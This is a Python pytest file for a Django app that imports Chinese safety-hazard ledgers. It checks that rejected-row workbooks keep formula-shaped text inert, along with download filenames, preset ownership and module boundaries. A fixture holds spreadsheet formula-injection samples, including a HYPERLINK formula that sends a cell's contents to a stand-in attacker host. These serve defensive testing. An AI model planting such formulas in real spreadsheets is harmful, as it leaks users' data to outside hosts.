"""The rejected-rows workbook keeps formula-shaped text as text; a preset is saved only from
one's own job; the report downloads under a Chinese name with an ASCII fallback; the services
and the task module do not import each other."""
import ast
import csv
import io
import shutil
import subprocess
import zipfile
from pathlib import Path
from urllib.parse import unquote

import openpyxl
import pytest
from django.urls import reverse

from imports import services
from imports.models import ImportPreset
from tests import factories

HEADERS = ["检查日期", "企业名称", "隐患描述", "隐患部位", "整改措施", "整改责任人", "整改期限"]
INJECTED = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', "+1+1", "-2+3",
            "@SUM(1,2)"]


@pytest.fixture
def rejected_job(importer, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    # a CSV keeps the formula-shaped cells as the text they are; the deadline is no date
    text = io.StringIO()
    csv.writer(text).writerows([HEADERS, ["2024-04-01", "涪陵甲化工有限公司", *INJECTED, "明天"]])
    job = services.job_create(actor=importer, preset=services.preset_get("cn_hazard_ledger"),
                              file=io.BytesIO(text.getvalue().encode()),
                              name="六月台账.csv", district_code="500102")
    services.job_dry_run(job=job)
    assert list(job.issues.values_list("row_number", "column")) == [(2, "整改期限")]
    return job


def test_rejected_rows_workbook_writes_formula_shaped_cells_as_text(rejected_job):
    content = services.rejected_rows_workbook(rejected_job)

    cells = list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))[0]
    assert [c.value for c in cells[2:6]] == INJECTED  # unaltered
    assert [(c.data_type, c.quotePrefix) for c in cells[2:6]] == [("s", True)] * 4
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read(
        "xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_rejected_rows_workbook_shows_the_text_in_libreoffice(rejected_job, tmp_path):
    path = tmp_path / "rejected.xlsx"
    path.write_bytes(services.rejected_rows_workbook(rejected_job))

    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo",
                    "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76",
                    "--outdir", str(tmp_path), str(path)],
                   check=True, capture_output=True, timeout=180)

    rows = list(csv.reader(io.StringIO((tmp_path / "rejected.csv").read_text("utf-8"))))
    assert rows[1][2:6] == INJECTED  # not "点击查看" (a live link) nor computed values


def test_spreadsheet_cells_quote_full_width_formula_prefixes_too():
    from core.spreadsheets import row

    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append(row(sheet, ["＝1+1", "＋1", "－1", "＠A1", "普通文字", 42]))
    buffer = io.BytesIO()
    workbook.save(buffer)

    cells = next(openpyxl.load_workbook(buffer).active.iter_rows())
    assert [c.quotePrefix for c in cells] == [True, True, True, True, False, False]
    assert [c.value for c in cells] == ["＝1+1", "＋1", "－1", "＠A1", "普通文字", 42]


def test_rejected_rows_download_has_a_chinese_name_with_an_ascii_fallback(rejected_job, client,
                                                                           importer):
    client.force_login(importer)

    response = client.get(reverse("imports:rejected_report", args=[rejected_job.pk]))

    disposition = response["Content-Disposition"]
    assert disposition.startswith(
        f'attachment; filename="import-{rejected_job.pk}-rejected.xlsx"; filename*=UTF-8\'\'')
    assert unquote(disposition.split("''", 1)[1]) == "六月台账-被拒绝的行.xlsx"


def test_a_preset_is_saved_only_from_ones_own_job(rejected_job, client, importer):
    colleague = factories.district_official("500102", username="fuling_colleague")
    client.force_login(colleague)

    response = client.post(reverse("imports:save_preset", args=[rejected_job.pk]),
                           {"code": "taken-from-colleague", "name": "同事的方案"}, follow=True)

    assert not ImportPreset.objects.filter(code="taken-from-colleague").exists()
    assert "只能用自己的导入任务保存导入方案。" in response.content.decode()
    client.force_login(importer)
    client.post(reverse("imports:save_preset", args=[rejected_job.pk]),
                {"code": "own-ledger", "name": "自己的方案"})
    assert ImportPreset.objects.get(code="own-ledger").created_by == importer


def test_import_services_never_import_the_task_module():
    package = Path(services.__file__).parent
    imported = set()
    for path in package.glob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.ImportFrom):
                imported.add(("." * node.level) + (node.module or ""))
                imported.update(f"{'.' * node.level}{node.module or ''}.{a.name}"
                                for a in node.names)
            elif isinstance(node, ast.Import):
                imported.update(a.name for a in node.names)

    assert not {name for name in imported if "tasks" in name or "dispatch" in name}
    assert max(len(p.read_text(encoding="utf-8").splitlines())
               for p in package.glob("*.py")) <= 400
